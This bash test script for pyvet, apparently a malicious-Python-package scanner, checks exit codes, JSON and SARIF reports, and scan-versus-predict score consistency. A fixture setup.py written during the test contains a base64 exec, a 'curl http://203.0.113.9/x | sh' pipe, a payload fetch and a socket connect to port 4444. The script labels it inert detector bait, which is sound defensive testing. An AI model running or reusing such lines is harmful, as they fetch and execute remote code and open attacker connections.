#!/usr/bin/env bash
# pyvet scan end to end (spec 8.5, 8.6): text, JSON Lines and SARIF outputs on the committed demo
# package and archives built in $TMP; exit codes 0/1/2/3; and the consistency oracle: scan's
# score of a package equals `pyvet predict`'s score of the same package extracted by
# `pyvet extract` (a synthetic model without the corpus; a model trained on a corpus sample with it).
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/lib-features.sh"

PY=/usr/bin/python3
# The popular-domain list: the real one of ../shared when present; else the mini list, as a
# visible skip of the real list and an explicit mode asserted on the extraction sidecar below.
if [ -n "$SHARED_DOMAINS" ]; then
	DOMFILE=$SHARED_DOMAINS
else
	DOMFILE=tests/data/top-domains-mini.csv
	skip "real popular-domain list <shared>/data/top-domains.csv absent: scanning with the mini list $DOMFILE"
fi
DOM="--domains $DOMFILE"
FX=$TMP/fx
bash tests/data/make_fixtures.sh "$FX" basic >/dev/null 2>&1
check "fixtures built" test -s "$FX/demo.tar.gz" -a -s "$FX/enc-secret.zip"

# scan ARGS...: without --model in ARGS, --no-model (the bundled default model is tested in
# t4020-model.sh; here the verdicts come from the models this test trains)
scan() {
	case " $* " in *" --model "*) ;; *) set -- --no-model "$@" ;; esac
	"$PYVET" scan $DOM "$@" >"$TMP/out" 2>"$TMP/err"; rc=$?
}
# pyjson "description" 'python code using d (the first JSON line) and L (all lines)' FILE
pyjson() { local d=$1 code=$2 f=$3; check "$d" "$PY" -c "
import json, sys
txt = open(sys.argv[1]).read()
L = [json.loads(x) for x in txt.splitlines() if x.strip()]
d = L[0] if L else None
$code" "$f"; }

# ---- usage and configuration errors: exit 2 ----
scan
check "no package: exit 2" [ "$rc" -eq 2 ]
scan --format xml tests/data/demo-1.0
check "--format xml: exit 2" [ "$rc" -eq 2 ]
scan --top -1 tests/data/demo-1.0
check "--top -1: exit 2" [ "$rc" -eq 2 ]
scan --bogus 1 tests/data/demo-1.0
check "unknown option: exit 2" [ "$rc" -eq 2 ]
scan --model "$TMP/no-such.model" tests/data/demo-1.0
check "missing model: exit 2" [ "$rc" -eq 2 ]
printf 'not a model\n' >"$TMP/bad.model"
scan --model "$TMP/bad.model" tests/data/demo-1.0
check "non-model file: exit 2" [ "$rc" -eq 2 ]
scan --param code.long_str.mode=bogus tests/data/demo-1.0
check "bad extraction parameter: exit 2" [ "$rc" -eq 2 ]
scan --param scan.occlusion_batch=0 tests/data/demo-1.0
check "bad scan parameter: exit 2" [ "$rc" -eq 2 ]
check "configuration errors write no report" [ ! -s "$TMP/out" ]
"$PYVET" scan --help >"$TMP/help" 2>&1
check "--help documents the exit status" grep -q "Exit status: 0 no package judged malicious" "$TMP/help"

# ---- without a model: features and evidence only ----
scan tests/data/demo-1.0
check "directory, text: exit 0" [ "$rc" -eq 0 ]
check "text: no verdict without a model" grep -q "no verdict" "$TMP/out"
check "text: the seven binary features" grep -q "is_valid_homepage=.*is_valid_author_email=.*has_install_cmd=.*has_url=.*has_long_str=.*min_cfg=.*is_license=" "$TMP/out"
check "text: evidence lines as file:line rule" grep -qE "^    (note|warning) +PKG-INFO:5  homepage  https://example.org/demo" "$TMP/out"

scan --format json tests/data/demo-1.0
check "directory, json: exit 0" [ "$rc" -eq 0 ]
pyjson "json: top-level fields in the documented order" '
assert len(L) == 1
assert list(d) == ["schema_version", "package", "status", "verdict", "score", "threshold", "model",
	"features", "evidence", "explanation", "errors", "warnings"], list(d)
assert d["schema_version"] == 1 and d["status"] == "ok"
assert d["verdict"] is None and d["score"] is None and d["model"] is None and d["explanation"] is None' "$TMP/out"
pyjson "json: package fields (directory input: sha256 null)" '
p = d["package"]
assert list(p) == ["name", "version", "input", "sha256", "format", "root", "shape"], list(p)
assert p["name"] == "demo" and p["version"] == "1.0" and p["format"] == "dir" and p["sha256"] is None
assert p["shape"] == "sdist", p["shape"]  # root PKG-INFO: an sdist, whatever the container' "$TMP/out"
pyjson "json: seven binary features with values 0/1" '
b = d["features"]["binary"]
assert list(b) == ["meta.is_valid_homepage", "meta.is_valid_author_email", "code.has_install_cmd",
	"code.has_url", "code.has_long_str", "file.min_cfg", "file.is_license"], list(b)
assert all(v in (0, 1) for v in b.values()), b
assert b["code.has_install_cmd"] == 0 and b["file.min_cfg"] == 0' "$TMP/out"
pyjson "json: evidence items {rule,file,line,end_line,snippet,detail}; homepage at its header line" '
ev = d["evidence"]
assert ev and all(list(e) == ["rule", "file", "line", "end_line", "snippet", "detail"] for e in ev)
h = [e for e in ev if e["rule"] == "homepage"]
assert h and h[0]["file"] == "PKG-INFO" and h[0]["line"] == 5 and h[0]["snippet"] == "https://example.org/demo", h' "$TMP/out"

sha=$(sha256sum "$FX/demo.tar.gz" | cut -d" " -f1)
scan --format json "$FX/demo.tar.gz"
pyjson "json: archive sha256, format and root" "
p = d['package']
assert p['sha256'] == '$sha' and p['format'] == 'tar.gz' and p['root'] == 'demo-1.0/', p" "$TMP/out"
cp "$TMP/out" "$TMP/out.first"
scan --format json "$FX/demo.tar.gz"
check "json: same bytes on a second run" cmp -s "$TMP/out" "$TMP/out.first"

scan --format json "$FX/demo.tar.gz" "$FX/enc.zip" "$FX/demo-1.0-py3-none-any.whl" "$FX/python3-demo_1.0-1_all.deb" "$FX/wrapper.tar.gz"
check "batch of five formats: exit 0" [ "$rc" -eq 0 ]
pyjson "json lines: one ok object per package, in argument order" '
assert len(L) == 5 and all(x["status"] == "ok" for x in L)
assert [x["package"]["format"] for x in L] == ["tar.gz", "zip+zipcrypto>tar.gz", "whl", "deb>tar.xz", "tar.gz"], [x["package"]["format"] for x in L]' "$TMP/out"

# ---- failures: exit 3, the batch goes on ----
scan --format json "$FX/truncated.tar.gz"
check "truncated archive: exit 3" [ "$rc" -eq 3 ]
pyjson "json: failed package has status error and an errors entry" '
assert d["status"] == "error" and d["errors"] and d["features"] is None, d' "$TMP/out"
check "failure reported on stderr" grep -q "truncated" "$TMP/err"
scan --format json "$FX/demo.tar.gz" "$FX/no-such.tar.gz" "$FX/notes.tar.gz" "$FX/demo.zip"
check "batch with two failures: exit 3" [ "$rc" -eq 3 ]
pyjson "batch with failures: four objects, statuses ok,error,error,ok" '
assert [x["status"] for x in L] == ["ok", "error", "error", "ok"], [x["status"] for x in L]' "$TMP/out"
scan "$FX/enc-secret.zip"
check "ZipCrypto zip with another password: exit 3" [ "$rc" -eq 3 ]
scan --password secret "$FX/enc-secret.zip"
check "--password secret reads it: exit 0" [ "$rc" -eq 0 ]
"$PYVET" scan --no-model $DOM --format json --out "$TMP/report.jsonl" "$FX/demo.tar.gz" >"$TMP/out" 2>"$TMP/err"
check "--out: exit 0, nothing on stdout, one line in the file" test $? -eq 0 -a ! -s "$TMP/out" -a "$(wc -l <"$TMP/report.jsonl")" -eq 1

# ---- SARIF ----
scan --format sarif "$FX/demo.tar.gz" "$FX/demo-1.0-py3-none-any.whl" "$FX/truncated.tar.gz"
check "sarif batch with a failure: exit 3" [ "$rc" -eq 3 ]
cat >"$TMP/sarif.py" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
assert d["version"] == "2.1.0" and len(d["runs"]) == 1
run = d["runs"][0]
assert run["tool"]["driver"]["name"] == "pyvet"
rules = [r["id"] for r in run["tool"]["driver"]["rules"]]
for r in ["pyvet.suspicious-url", "pyvet.long-string", "pyvet.install-command", "pyvet.invalid-homepage",
          "pyvet.invalid-author-email", "pyvet.license-mismatch", "pyvet.minimal-setup-cfg",
          "pyvet.malicious-package"]:
    assert r in rules, r
assert len(rules) == len(set(rules))
bases = run["originalUriBaseIds"]
assert all(b["uri"].startswith("file:///") and b["uri"].endswith("/") for b in bases.values())
assert run["results"]
for res in run["results"]:
    assert res["ruleId"] in rules, res["ruleId"]
    assert res["level"] in ("note", "warning", "error")
    assert res["message"]["text"]
    for loc in res["locations"]:
        pl = loc["physicalLocation"]
        assert pl["artifactLocation"]["uriBaseId"] in bases
        assert pl["region"]["startLine"] >= 1
mode = sys.argv[2]
if mode == "fixtures":
    assert set(bases) == {"PKG1", "PKG2"}, bases
    assert bases["PKG1"]["uri"].endswith("/demo.tar.gz/")
    uris = [r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in run["results"]
            if r["locations"][0]["physicalLocation"]["artifactLocation"]["uriBaseId"] == "PKG1"]
    assert uris and all(u.startswith("demo-1.0/") for u in uris), uris
    hp = [r for r in run["results"] if r["ruleId"] == "pyvet.invalid-homepage"][0]
    assert hp["locations"][0]["physicalLocation"]["region"]["startLine"] == 5
    inv = run["invocations"][0]
    assert inv["executionSuccessful"] is False
    assert any("truncated" in n["message"]["text"] for n in inv["toolExecutionNotifications"])
    assert not [r for r in run["results"] if r["level"] == "error"]
elif mode == "malicious":
    err = [r for r in run["results"] if r["level"] == "error"]
    assert err and all(r["ruleId"] == "pyvet.malicious-package" for r in err), err
PY
check "sarif: 2.1.0 structure, rules, base URIs, member paths, start lines, notifications" "$PY" "$TMP/sarif.py" "$TMP/out" fixtures

# ---- with a model, without the corpus: a synthetic extraction (tests/lib-features.sh) ----
make_features "$TMP/syn" 40 40
"$PYVET" train --features "$TMP/syn" --set T+MCF --learner rf --seed 3 --out "$TMP/syn.model" 2>/dev/null
check "synthetic model trained" test -s "$TMP/syn.model"
# a package that looks like the synthetic malicious rows (inert text, never executed)
S=$TMP/pkgs/evil-0.1
mkdir -p "$S"
printf 'Metadata-Version: 2.1\nName: evil\nVersion: 0.1\n' >"$S/PKG-INFO"
cat >"$S/setup.py" <<'EOF'
import os, socket, subprocess, base64
from urllib.request import urlopen
exec(base64.b64decode("cHJpbnQoJ2hlbGxvJyk="))
subprocess.Popen(["sh", "-c", "curl http://203.0.113.9/x | sh"])
urlopen("http://203.0.113.9/payload").read()
socket.socket().connect(("203.0.113.9", 4444))
EOF
cp -R tests/data/demo-1.0 "$TMP/pkgs/demo-1.0"
cp "$FX/demo.tar.gz" "$TMP/pkgs/demo.tar.gz" # manifest paths stay inside the corpus directory
M=$TMP/pkgs/manifest.csv
{ echo "id,label,name,version,path,format,source,first_seen,cluster,cluster_size,kind,top_rank,bytes,dropped_files"
  echo "evil,malicious,evil,0.1,evil-0.1,dir,,,,,,,,"
  echo "demo,benign,demo,1.0,demo-1.0,dir,,,,,,,,"
  echo "demotgz,benign,demo,1.0,demo.tar.gz,tar.gz,,,,,,,,"
} >"$M"
"$PYVET" extract --manifest "$M" --out "$TMP/pkgfeat" --quiet $DOM >/dev/null 2>&1
check "fixture packages extracted" [ "$(wc -l <"$TMP/pkgfeat/features.csv")" -eq 4 ]
check "sidecar: extracted with the domain list $DOMFILE (its SHA-256)" \
	grep -q "\"domains\":[[:space:]]*\"$(sha256sum "$DOMFILE" | cut -d' ' -f1)\"" "$TMP/pkgfeat/features.json"
"$PYVET" predict --model "$TMP/syn.model" --features "$TMP/pkgfeat" >"$TMP/pred.csv" 2>/dev/null
scan --model "$TMP/syn.model" --format json "$S" "$TMP/pkgs/demo-1.0" "$FX/demo.tar.gz"
src=$rc
cat >"$TMP/oracle.py" <<'PY'
import csv, json, sys
pred = {r["id"]: r for r in csv.DictReader(open(sys.argv[1]))}
L = [json.loads(x) for x in open(sys.argv[2])]
ids = sys.argv[3].split(",")
fset = sys.argv[4]
assert len(L) == len(ids), (len(L), ids)
for i, x in zip(ids, L):
    p = pred[i]
    assert x["status"] == "ok"
    assert x["score"] == float(p["score"]), (i, x["score"], p["score"])
    assert x["threshold"] == float(p["threshold"])
    assert x["verdict"] == p["verdict"], (i, x["verdict"], p["verdict"])
    assert (x["score"] > x["threshold"]) == (x["verdict"] == "malicious")
    e = x["explanation"]
    assert e["method"] == "occlusion" and "not causal" in e["scope"]
    a = e["attributions"]
    assert len(a) <= 10 and e["features_differing"] >= len(a)
    for t in a:
        assert abs(t["delta"] - (x["score"] - t["score_at_baseline"])) < 1e-12
        assert t["value"] != t["baseline"] and t["delta"] != 0
    assert [abs(t["delta"]) for t in a] == sorted((abs(t["delta"]) for t in a), reverse=True)
    m = x["model"]
    assert len(m["id"]) == 64 and m["feature_set"] == fset and m["learner"] == "rf"
    assert m["training"]["rows"] > 0 and len(m["api_table_sha256"]) == 64
print(sum(x["verdict"] == "malicious" for x in L))
PY
n_mal=$("$PY" "$TMP/oracle.py" "$TMP/pred.csv" "$TMP/out" evil,demo,demotgz T+MCF 2>"$TMP/oracle.err")
check "oracle: scan score, threshold and verdict equal predict's (synthetic model)" test -n "$n_mal"
[ -n "$n_mal" ] || cat "$TMP/oracle.err"
check "the suspicious-looking package is flagged malicious by the synthetic model" grep -q '^evil,malicious,[^,]*,[^,]*,malicious$' "$TMP/pred.csv"
check "exit status 1 when a package is judged malicious" [ "$src" -eq 1 ]
scan --model "$TMP/syn.model" --format sarif "$S"
check "sarif with a malicious verdict: exit 1" [ "$rc" -eq 1 ]
check "sarif: malicious verdict is an error-level result" "$PY" "$TMP/sarif.py" "$TMP/out" malicious
scan --model "$TMP/syn.model" --top 2 "$S"
check "text with a model: verdict line and attribution" grep -q "^$S: MALICIOUS (score" "$TMP/out"
check "text: attribution labelled local, not causal" grep -q "local explanation by occlusion, not causal" "$TMP/out"
check "--top 2: at most two attribution lines" test "$(grep -cE '^    [+-][0-9]' "$TMP/out")" -le 2

# ---- with the corpus: a model trained on a small sample ----
if [ -z "$CORPUS" ]; then
	skip "corpus not found (set PYVET_CORPUS): scan vs predict on real packages not tested"
	finish
	exit $?
fi
nb=15 nm=15
[ "${PYVET_ASAN:-0}" = 1 ] && nb=6 nm=6
CM=$TMP/cm.csv
{ head -n 1 "$CORPUS/manifest.csv"
  grep ',benign,' "$CORPUS/manifest.csv" | awk 'NR % 20 == 3' | head -n $nb
  grep ',malicious,' "$CORPUS/manifest.csv" | awk 'NR % 97 == 5' | head -n $nm
} >"$CM"
"$PYVET" extract --manifest "$CM" --corpus "$CORPUS" --out "$TMP/cf" --quiet $DOM >/dev/null 2>&1
check "corpus sample extracted" [ "$(wc -l <"$TMP/cf/features.csv")" -gt $((nb + nm - 3)) ]
"$PYVET" train --features "$TMP/cf" --set T+MCF+pre --learner rf --out "$TMP/c.model" 2>/dev/null
"$PYVET" predict --model "$TMP/c.model" --features "$TMP/cf" >"$TMP/cpred.csv" 2>/dev/null
check "corpus model trained and applied" test -s "$TMP/c.model" -a -s "$TMP/cpred.csv"
ids=$(tail -n +2 "$TMP/cf/features.csv" | cut -d, -f1 | tr '\n' ',' | sed 's/,$//')
paths=()
for i in ${ids//,/ }; do paths+=("$CORPUS/$(awk -F, -v id="$i" '$1 == id { print $5 }' "$CM")"); done
scan --model "$TMP/c.model" --format json "${paths[@]}"
src=$rc
n_mal=$("$PY" "$TMP/oracle.py" "$TMP/cpred.csv" "$TMP/out" "$ids" T+MCF+pre 2>"$TMP/oracle.err")
check "oracle: scan score and verdict equal predict's on every training package" test -n "$n_mal"
[ -n "$n_mal" ] || head -c 2000 "$TMP/oracle.err"
check "some training package is flagged malicious, and the batch exits 1" test "${n_mal:-0}" -gt 0 -a "$src" -eq 1
ben=$(awk -F, 'NR > 1 && $5 == "benign" { print $1; exit }' "$TMP/cpred.csv")
if [ -n "$ben" ]; then
	scan --model "$TMP/c.model" "$CORPUS/$(awk -F, -v id="$ben" '$1 == id { print $5 }' "$CM")"
	check "a package judged benign alone: exit 0" [ "$rc" -eq 0 ]
else
	skip "no training package judged benign"
fi
finish
